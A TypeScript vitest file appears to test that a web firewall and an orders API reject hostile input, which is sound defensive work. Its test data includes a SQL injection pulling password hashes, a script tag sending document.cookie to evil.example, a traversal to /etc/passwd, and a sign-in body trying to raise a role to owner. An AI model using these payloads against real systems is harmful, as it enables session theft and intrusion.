import { randomUUID } from 'node:crypto'
import { describe, expect, inject, test } from 'vitest'
import { expectProblem } from '../support/expectations.ts'
import { call } from '../support/http.ts'
import { draft } from '../support/samples.ts'
import { tokenOf } from '../support/users.ts'

const { hasEdge, baseUrl, apiUrl } = inject('target')

describe.skipIf(!hasEdge)('[S54] [S59] the WAF (absent on the embedded default)', () => {
  test('blocks SQL in a query', async () => {
    const token = await tokenOf('member')
    const q = encodeURIComponent("x' UNION SELECT password_hash FROM users--")
    expectProblem(await call(`/api/orders/search?q=${q}`, { token }), 'blocked')
  })

  test('blocks a script in an order’s note', async () => {
    const token = await tokenOf('member')
    const json = { ...draft, note: '<script>fetch("https://evil.example/"+document.cookie)</script>' }
    expectProblem(await call('/api/orders', { method: 'POST', token, json }), 'blocked')
  })

  test('blocks paths to the system’s files', async () => {
    const token = await tokenOf('member')
    expectProblem(await call('/api/orders/search?q=../../../../etc/passwd', { token }), 'blocked')
  })
})

/** The API without its edge, where it can be reached. */
const at = hasEdge ? apiUrl : baseUrl

describe.skipIf(!at)('[S8] the API without the WAF', () => {
  const ask = async (path: string) => call(path, { token: await tokenOf('member'), ...(at && { at }) })

  test('searches for SQL like for any text', async () => {
    const answer = await ask(`/api/orders/search?q=${encodeURIComponent(`') OR 1=1 ${randomUUID()}`)}`)
    expect([answer.status, answer.json()]).toEqual([200, { items: [] }])
  })
})

describe('[S8] [S58] with or without the WAF', () => {
  for (const [id, code] of [
    ["1'--", 'not-found'],
    [`${randomUUID()}'`, 'not-found'],
    ['%2e%2e%2fme', 'malformed-request'],
    ['%00', 'malformed-request'],
  ] as const) {
    test(`the id ${id.replace(/[0-9a-f-]{36}/, 'UUID')} is answered with ${code}`, async () => {
      expectProblem(await call(`/api/orders/${id}`, { token: await tokenOf('member') }), code)
    })
  }

  test('[S98] fields that would raise a role are refused', async () => {
    const json = { email: 'member@acme.test', password: 'x', role: 'owner' }
    expectProblem(await call('/api/auth/sign-in', { method: 'POST', json }), 'validation-failed')
  })
})
